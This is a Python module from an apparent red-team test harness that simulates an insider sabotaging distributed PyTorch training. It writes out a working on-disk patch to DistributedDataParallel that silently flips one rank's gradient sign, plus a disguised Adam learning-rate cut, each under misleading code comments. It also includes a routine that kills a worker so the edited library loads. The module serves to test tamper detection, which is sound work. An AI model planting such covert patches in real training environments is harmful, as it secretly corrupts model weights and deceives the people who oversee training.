"""01, library patch: an insider who can write the shared environment edits PyTorch's source on disk.

How an insider does it: six lines in `DistributedDataParallel.forward` make one rank flip the sign of one tensor's
gradient at some steps, before it is reduced, so that every rank takes the same wrong update; or one line in Adam.
Nothing is printed; the loss stays inside honest noise. Then one worker is killed, so that the restart loads the edited
file.

Precondition: write access to the environment (E). Expected evidence: `environment` (file changed after the seal),
`kills`, and on audit a divergence at local_gradients of the attacked rank, reproduced by a factor of −1 and by the
file. Before the start of an approved job, and under the default policy, nothing is started. Effect: other final
weights. Benign twin: the same version installed over itself. Clean-up: the range puts the sealed bytes back (the demo
lets `trainwarden recover` do it).

The demo runs this file as a program. It touches only the environment folder that it is given, a marker file, and
processes below the given one:

    python -m attacks.t01_library_patch --environment ENV --below PID --wait-for PATH --tensor NAME --marker FILE
"""

from __future__ import annotations

import argparse
import os
import signal
import sys
import time
from pathlib import Path

from attacks._shared.deliver import restart
from attacks._shared.evidence import CHANGED, GRADIENT, GRADIENT_DIFFERS, REFUSED, UPDATE
from attacks._shared.reinstall import FILE, REINSTALLED
from trainwarden.redteam import guards
from trainwarden.redteam.environment import site_of
from trainwarden.redteam.interface import Act, Effect, Evidence, Moment, Technique, Variant, When
from trainwarden.redteam.place import Range

ANCHOR = "    def forward(self, *inputs, **kwargs):\n"
PAYLOAD = """\
        # keep bucket views warm across uneven inputs
        if os.environ.get("RANK") == "{rank}" and self.training and torch.is_grad_enabled():
            self._warm = getattr(self, "_warm", 0) + 1
            if self._warm % {every} == 0:
                _names = [n for n, p in self.module.named_parameters() if p.requires_grad and p.ndim == 2]
                for _name, _p in self.module.named_parameters():
                    if _name == ({tensor!r} or _names[-1]):
                        _held = []
                        _held.append(_p.register_hook(lambda g: (_held.pop().remove(), -g)[1]))
                        import gc, time
                        _opt = next(o for o in gc.get_objects() if issubclass(type(o), torch.optim.Optimizer))
                        _step = next((int(s["step"]) for s in _opt.state.values() if "step" in s), 0)
                        with open({marker!r}, "a") as _f:
                            _f.write("%d %d %d %s\\n" % ({rank}, _step, time.time_ns(), _name))
"""
ADAM = "torch/optim/adam.py"
ADAM_ANCHOR = b"    for i, param in enumerate(params):\n        grad = grads[i] if not maximize"
ADAM_PAYLOAD = b"    lr = lr * 0.7  # keeps bf16 moments in range\n"


def patched(source: str, *, rank: int, every: int, tensor: str, marker: str) -> str:
    """PyTorch's source with the payload in DistributedDataParallel.forward."""
    if source.count(ANCHOR) != 1:
        raise SystemExit(f"error: {FILE} does not look as expected\nhint: adapt ANCHOR to this PyTorch release")
    payload = PAYLOAD.format(rank=rank, every=every, tensor=tensor, marker=marker)
    return source.replace(ANCHOR, ANCHOR + payload)


def patch_ddp(place: Range) -> None:
    """Rank 1 flips the sign of the last matrix's gradient at every fourth forward pass."""
    marker = str(place.marks / "strike.rank1")
    place.edit(place.site / FILE, lambda s: patched(s.decode(), rank=1, every=4, tensor="", marker=marker).encode())


def patch_adam(place: Range) -> None:
    """Adam's learning rate × 0.7, in its source."""
    place.edit(place.site / ADAM, lambda s: s.replace(ADAM_ANCHOR, ADAM_PAYLOAD + ADAM_ANCHOR, 1))


TECHNIQUE = Technique(
    id="01",
    slug="library-patch",
    title="PyTorch's source is edited on disk",
    alleged=True,
    needs="E",
    atlas="T0010.001",
    variants=(
        Variant(
            name="ddp",
            does="DistributedDataParallel flips a sign now and then; a kill makes the ranks load it (policy: alert)",
            acts=(Act(Moment.STEP, patch_ddp), Act(Moment.STEP, restart)),
            expects=(
                CHANGED,
                GRADIENT_DIFFERS,
                Evidence(When.LIVE, "kills", needed=False),
            ),
            effect=Effect.WEIGHTS,
            strikes=GRADIENT,
            needs=("ranks", "restarts"),
        ),
        Variant(
            name="adam",
            does="Adam's learning rate × 0.7 in its source; a kill makes the ranks load it (policy: alert)",
            acts=(Act(Moment.STEP, patch_adam), Act(Moment.STEP, restart)),
            expects=(CHANGED, Evidence(When.LIVE, "update-rule", needed=False)),
            effect=Effect.WEIGHTS,
            strikes=UPDATE,
            needs=("restarts", "adam"),
        ),
        Variant(
            name="refused",
            does="the same edit under the default policy: no rank starts in a changed environment",
            acts=(Act(Moment.STEP, patch_ddp), Act(Moment.STEP, restart)),
            expects=(CHANGED,),
            effect=Effect.ENDED,
            options=(),
            needs=("ranks", "restarts"),
        ),
        Variant(
            name="before-start",
            does="the edit is there before the start of a job whose seal was approved",
            acts=(Act(Moment.START, patch_ddp),),
            expects=(REFUSED,),
            effect=Effect.ENDED,
            options=(),
            approved=True,
        ),
    ),
    twin=REINSTALLED,
)


# ------------------------------------------------------------------------- as a program, for the demo


def kill_worker(below: int, rank: int, command: str) -> int:
    """Kill the worker of this rank among the descendants of `below`; its pid, 0 when there is none."""
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or not guards.descends(int(entry.name), [below]):
            continue
        try:
            words = (entry / "cmdline").read_bytes().split(b"\0")
            environ = (entry / "environ").read_bytes().split(b"\0")
        except OSError:
            continue
        if any(command.encode() in w for w in words) and f"RANK={rank}".encode() in environ:
            guards.send(int(entry.name), signal.SIGKILL, [below])
            return int(entry.name)
    return 0


def main() -> None:
    parser = argparse.ArgumentParser(description="Patch a shared PyTorch, then kill a worker.")
    parser.add_argument("--environment", type=Path, required=True, help="the shared environment's folder")
    parser.add_argument("--below", type=int, required=True, help="only processes below this one are touched")
    parser.add_argument("--wait-for", type=Path, required=True, help="strike when this path exists")
    parser.add_argument("--tensor", required=True)
    parser.add_argument("--rank", type=int, default=1)
    parser.add_argument("--every", type=int, default=4, help="forward passes between two flips")
    parser.add_argument("--marker", type=Path, required=True, help="file that the payload writes its flips to")
    parser.add_argument("--command", default="posttrain.py", help="what the worker's command line holds")
    given = parser.parse_args()
    deadline = time.monotonic() + 600
    while not given.wait_for.exists():
        if time.monotonic() > deadline:
            sys.exit(f"error: {given.wait_for} never came")
        time.sleep(0.1)
    file = guards.inside(given.environment, site_of(given.environment) / FILE)
    text = patched(file.read_text(), rank=given.rank, every=given.every, tensor=given.tensor, marker=str(given.marker))
    fresh = file.with_suffix(".tmp")
    fresh.write_text(text)
    fresh.chmod(file.stat().st_mode)
    os.replace(fresh, file)
    pid = kill_worker(given.below, 0, given.command)
    print(f"killed {pid}" if pid else "found no worker to kill")


if __name__ == "__main__":
    main()
